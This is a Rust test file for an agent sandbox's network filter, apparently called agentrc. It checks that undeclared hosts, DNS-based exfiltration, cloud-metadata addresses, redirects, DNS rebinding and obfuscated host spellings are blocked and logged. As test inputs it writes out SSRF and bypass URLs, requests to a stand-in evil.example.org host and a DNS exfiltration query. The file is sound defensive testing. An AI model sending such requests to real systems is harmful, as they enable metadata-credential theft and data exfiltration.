//! Network: what no line declares is not reached, by address, by name or by a name that leads elsewhere, and the log says who
//! asked for what. (`shared/attacks.md`, "Network". Inside a declared connection: `network_tls`, `network_requests`.)

#![allow(clippy::panic)]

use std::time::Duration;

use agentrc_test_support::outcome::within;
use agentrc_test_support::{Attempt, Control, Sign, World, as_each_and_without_filter, withstand};
use serde_json::Value;

const AGENTRC: &str = env!("CARGO_BIN_EXE_agentrc");

fn field<'e>(event: &'e Value, name: &str) -> &'e str {
    event.get(name).and_then(Value::as_str).unwrap_or_default()
}

/// What the world counts.
fn reached<'w>(world: &'w World<'_>) -> Sign<'w> {
    Sign::Host(Box::new(|| world.arrivals().len().to_string()))
}

const DECLARED: &str = "AGENT network\nURL https://api.example.com\nURL http://api.example.com\nURL tcp://api.example.com:7000\n\
                        URL http://10.0.0.9:80";

#[test]
fn addresses_that_no_line_names_are_not_reached_not_even_those_of_declared_hosts() {
    as_each_and_without_filter(AGENTRC, |lab| {
        let world = World::new(lab);
        let mut attempts = Vec::new();
        for address in [
            "93.184.216.34",
            "2606:2800:220:1::1",
            "::ffff:93.184.216.34",
            "93.184.216.66",
            "127.0.0.1",
            "::1",
            "192.168.7.7",
            "169.254.169.254",
            "fd00:ec2::254",
            "100.100.100.200",
            "64:ff9b::a9fe:a9fe",
            "2002:a9fe:a9fe::1",
        ] {
            // A port that is declared for others, one that is nobody's, and those of resolvers.
            for (act, port) in
                [("tcp", 443), ("tcp", 22), ("tcp", 53), ("tcp", 853), ("tcp-fastopen", 80), ("mptcp", 80)]
            {
                let line = format!("{act} {address} {port}");
                attempts.push(Attempt::new(line.clone(), line, reached(&world), Control::Host));
            }
        }
        for line in ["tcp 10.0.0.9 443", "tcp 10.0.0.9 22", "tcp ::ffff:10.0.0.9 8081"] {
            attempts.push(Attempt::new(line, line, reached(&world), Control::Host));
        }
        // Addresses that stand for hosts inside: another port of one, and one that stands for nothing.
        for line in [
            "tcp 198.18.0.16 22",
            "tcp 198.18.0.16 8081",
            "tcp 198.18.200.1 443",
            "tcp 198.18.0.1 443",
            "tcp 198.18.0.1 80",
        ] {
            let inside = Control::None("it is an address inside alone");
            attempts.push(Attempt::new(line, line, reached(&world), inside));
        }
        withstand(lab, DECLARED, &attempts);
    });
}

#[test]
fn no_datagram_gets_out_whatever_it_is_for() {
    as_each_and_without_filter(AGENTRC, |lab| {
        let world = World::new(lab);
        let mut attempts = Vec::new();
        for address in
            ["93.184.216.34", "2606:2800:220:1::1", "::ffff:93.184.216.34", "127.0.0.1", "10.0.0.9"]
        {
            for act in ["udp", "udp-connected", "udp-sendmmsg"] {
                // QUIC, and a resolver of one's own.
                for port in [443, 53] {
                    let line = format!("{act} {address} {port}");
                    attempts.push(Attempt::new(line.clone(), line, reached(&world), Control::Host));
                }
            }
        }
        withstand(lab, DECLARED, &attempts);
    });
}

#[test]
fn a_denied_connection_is_on_record_with_its_program() {
    as_each_and_without_filter(AGENTRC, |lab| {
        let world = World::new(lab);
        let outcome = world.run(
            "URL https://api.example.com\nURL http://other.example.com",
            "curl -sS --resolve x.example:443:198.18.99.1 https://x.example/\ncurl -sS https://other.example.com/\ncurl -sS http://evil.example.org/",
        );
        let connect = outcome.denial_of("connect 198.18.99.1:443");
        assert_eq!(
            (field(connect, "program"), field(connect, "verdict")),
            // Where there is the eBPF filter, it is asked first.
            ("curl", if lab.who.filter { "EPERM" } else { "reset" }),
            "as {}",
            lab.who.name
        );
        assert_eq!(field(connect, "reason"), "no line declares this address and port");
        let resolve = outcome.denial_of("resolve evil.example.org");
        assert_eq!((field(resolve, "program"), field(resolve, "verdict")), ("curl", "NXDOMAIN"));
        assert!(world.arrivals().is_empty(), "{:?}", world.arrivals());
        // What to do about it.
        let why = lab.finish_command(lab.agentrc(["why", "latest"]));
        let said = why.out() + &why.stderr;
        assert!(said.contains("evil.example.org") && said.contains("URL"), "as {}: {said}", lab.who.name);
    });
}

const QUESTIONS: &str = r#"/usr/bin/python3 - <<'END'
import os, socket, struct
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.settimeout(20)
def question(name, kind=1, count=1):
    labels = b"".join(bytes([len(one)]) + one for one in name.encode().split(b".")) + b"\0"
    return os.urandom(2) + struct.pack(">HHHHH", 0x100, count, 0, 0, 0) + labels + struct.pack(">HH", kind, 1)
def ask(bytes):
    udp.sendto(bytes, ("198.18.0.1", 53))
    try:
        # By its id: the answers to what was asked otherwise come here, too.
        while (reply := udp.recv(4096))[:2] != bytes[:2]: pass
        return reply
    except TimeoutError: return b""
def found(reply): return struct.unpack(">H", reply[6:8])[0] if reply else -1
for kind in (1, 28, 16, 15, 5, 255, 65, 64, 12): print("kind", kind, found(ask(question("api.example.com", kind))))
for kind in (1, 16): print("secret", found(ask(question("c2VjcmV0." + "evil.example.org", kind))))
print("wildcard", sum(found(ask(question("n%d.wild.example.com" % n))) for n in range(200)))
for odd in (b"", b"\0", b"\xff" * 12, b"\0" * 12, question("a.example")[:-3], os.urandom(512), question("api.example.com", 1, 9),
            b"\0\1\1\0\0\1\0\0\0\0\0\0\xc0\x0c\0\1\0\1", question("x" * 63 + "." + "y" * 63 + ".example.org"),
            question("api.example.com")[:2] + b"\x81\x80" + question("api.example.com")[4:], b"\x29" * 4097):
    udp.sendto(odd, ("198.18.0.1", 53))
tcp = socket.create_connection(("198.18.0.1", 53))
tcp.send(b"\xff\xff" + b"x" * 100)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.settimeout(20)
print("after", found(ask(question("api.example.com"))))
END"#;

#[test]
fn no_question_is_passed_on_and_the_resolver_outlives_all_of_them() {
    as_each_and_without_filter(AGENTRC, |lab| {
        let world = World::new(lab);
        let outcome = world.run("URL https://api.example.com\nURL https://*.wild.example.com", QUESTIONS);
        let out = outcome.out();
        let kinds: Vec<&str> = out.lines().filter(|line| line.starts_with("kind")).collect();
        assert_eq!(
            kinds,
            [
                "kind 1 1",
                "kind 28 1",
                "kind 16 0",
                "kind 15 0",
                "kind 5 0",
                "kind 255 0",
                "kind 65 0",
                "kind 64 0",
                "kind 12 0"
            ],
            "as {}: {out}",
            lab.who.name
        );
        assert!(
            out.contains("secret 0\nsecret 0\nwildcard 64\n") && out.ends_with("after 1\n"),
            "as {}: {out}",
            lab.who.name
        );
        assert!(world.arrivals().is_empty(), "a question got out: {:?}", world.arrivals());
        outcome.denial_of("resolve c2vjcmv0.evil.example.org");
        outcome.denial_of("send the resolver what is no query");
        let many = outcome.denial_of("resolve n64.wild.example.com");
        assert!(field(many, "reason").contains("too many different names"), "{many}");
        outcome.expect_code(0);
    });
}

const PRIVATE: &[&str] = &[
    "private.example.com",
    "home.example.com",
    "loopback.example.com",
    "loopback6.example.com",
    "metadata.example.com",
    "metadata6.example.com",
    "metadata-of-another.example.com",
    "nat64.example.com",
    "six-to-four.example.com",
];

#[test]
fn a_name_must_not_lead_to_a_private_address() {
    as_each_and_without_filter(AGENTRC, |lab| {
        let world = World::new(lab);
        let fetch = |name: &str| {
            format!(
                "curl -sS http://{name}/\ncurl -sS https://{name}/\ncurl -sS https://{name}:8443/x/\n\
                     /usr/bin/python3 -c 'import socket; s = socket.create_connection((\"{name}\", 7000)); s.settimeout(20); s.send(b\"x\"); s.shutdown(1); s.recv(1)'\n"
            )
        };
        for name in PRIVATE {
            // The same in the world itself gets there: four ways, four connections.
            world.outside(&fetch(name));
            assert_eq!(world.arrived(4).len(), 4, "control: {name}");
            world.forget();
        }
        let line = |name: &&str| {
            format!(
                "URL http://{name}\nURL https://{name}\nURL https://{name}:8443/x\nURL tcp://{name}:7000\n"
            )
        };
        let lines: String = PRIVATE.iter().map(line).collect();
        let script: String = PRIVATE.iter().map(|name| fetch(name)).collect();
        let outcome = world.run(&lines, &script);
        assert!(world.arrivals().is_empty(), "as {}: {:?}", lab.who.name, world.arrivals());
        for name in PRIVATE {
            for act in [
                format!("GET http://{name}/"),
                format!("connect {name}:443"),
                format!("GET https://{name}:8443/x/"),
                format!("connect {name}:7000"),
            ] {
                let reason = field(outcome.denial_of(&act), "reason").to_owned();
                assert!(
                    reason.contains("leads to") && reason.contains("declared by its address"),
                    "{act}: {reason}"
                );
            }
        }
    });
}

#[test]
fn of_a_name_with_addresses_of_both_kinds_only_the_public_one_is_used() {
    as_each_and_without_filter(AGENTRC, |lab| {
        let world = World::new(lab);
        let outcome = world.run(
            "URL http://mixed.example.com",
            "for i in 1 2 3; do curl -sS http://mixed.example.com/; done",
        );
        let at: Vec<String> = world.requests().iter().map(|one| one.at.to_string()).collect();
        assert_eq!(at, ["93.184.216.34"; 3], "as {}: {}", lab.who.name, outcome.out());
        assert_eq!(world.arrivals().iter().filter(|one| one.at != "93.184.216.34".parse().ok()).count(), 0);
    });
}

#[test]
fn a_name_that_turns_private_is_not_followed() {
    as_each_and_without_filter(AGENTRC, |lab| {
        let world = World::new(lab);
        let script = "curl -sS http://turning.example.com/one; echo first\nread turned\ncurl -sS http://turning.example.com/two\n\
                      read turned\ncurl -sS http://turning.example.com/three";
        let mut child = world.start("URL http://turning.example.com", script);
        child.wait_for("first");
        world.names(&[("10.0.0.9", "turning.example.com")]);
        // An answer is kept for ten seconds.
        std::thread::sleep(Duration::from_secs(11));
        child.send("\n");
        assert!(
            within(Duration::from_secs(20), || child.out().contains("leads to")),
            "as {}: {}",
            lab.who.name,
            child.out()
        );
        world.names(&[]);
        child.send("\n");
        child.wait_for("hello from /three");
        let outcome = child.finish();
        assert_eq!(
            world.asked(),
            ["GET http://turning.example.com/one", "GET http://turning.example.com/three"]
        );
        assert_eq!(world.arrivals().len(), 2, "{:?}", world.arrivals());
        outcome.denial_of("GET http://turning.example.com/two");
    });
}

#[test]
fn a_redirect_to_what_is_not_declared_leads_nowhere() {
    as_each_and_without_filter(AGENTRC, |lab| {
        let world = World::new(lab);
        for to in [
            "http://169.254.169.254/latest",
            "http://[fd00:ec2::254]/latest",
            "http://metadata.example.com/latest",
            "http://evil.example.org/",
            "http://127.0.0.1:8081/",
            "https://93.184.216.34/",
        ] {
            let fetch = format!("curl -sSkL 'http://api.example.com/redirect?{to}'");
            world.outside(&fetch);
            assert_eq!(world.requests().len(), 2, "control: {to}");
            world.forget();
            let outcome = world.run("URL http://api.example.com\nURL http://metadata.example.com", &fetch);
            let asked = world.asked();
            assert_eq!(
                asked,
                [format!("GET http://api.example.com/redirect?{to}")],
                "as {}: {}",
                lab.who.name,
                outcome.out()
            );
            assert_eq!(world.arrivals().len(), 1);
            world.forget();
        }
    });
}

#[test]
fn odd_spellings_of_hosts_reach_nothing_else() {
    as_each_and_without_filter(AGENTRC, |lab| {
        let world = World::new(lab);
        let odd = [
            "2130706433:8081",
            "0x7f000001:8081",
            "0177.0.0.1:8081",
            "127.1:8081",
            "0:8081",
            "[::ffff:127.0.0.1]:8081",
            "1572395042",
            "0x5d.0xb8.0xd8.0x22:8081",
            "api.example.com@evil.example.org",
            "api.example.com%40evil.example.org",
            "api.example.com.evil.example.org",
            "api.example.com.",
            "api.example.com:8081",
            "xapi.example.com",
            "localhost:8081",
            "evil.example.org#@api.example.com",
            "evil.example.org?@api.example.com",
        ];
        let reach = |spelling: &str| format!("curl -sS 'http://{spelling}/'\n");
        let script: String = odd.iter().map(|spelling| reach(spelling)).collect();
        world.outside(&script);
        assert!(world.requests().len() >= 10, "control: {:?}", world.asked());
        world.forget();
        let outcome = world.run("URL http://api.example.com\nURL https://api.example.com", &script);
        assert!(
            world.arrivals().is_empty(),
            "as {}: {:?}\n{}",
            lab.who.name,
            world.arrivals(),
            outcome.out()
        );
        // Where it is the same host in other letters, it is the same host.
        world.run(
            "URL http://api.example.com",
            "curl -sS http://API.Example.COM/a\ncurl -sS http://api%2eexample.com/b",
        );
        let asked: Vec<String> = world.asked().iter().map(|one| one.to_lowercase()).collect();
        assert_eq!(asked, ["get http://api.example.com/a", "get http://api.example.com/b"]);
    });
}

#[test]
fn services_on_the_hosts_loopback_are_not_reached_by_name() {
    as_each_and_without_filter(AGENTRC, |lab| {
        let world = World::new(lab);
        let script = "curl -sS http://localhost:8081/\ncurl -sS http://localhost/\ncurl -sS http://loopback.example.com:8081/";
        world.outside(script);
        assert_eq!(world.requests().len(), 3, "control");
        world.forget();
        world.run("URL http://api.example.com\nURL http://loopback.example.com:8081", script);
        assert!(world.arrivals().is_empty(), "as {}: {:?}", lab.who.name, world.arrivals());
    });
}
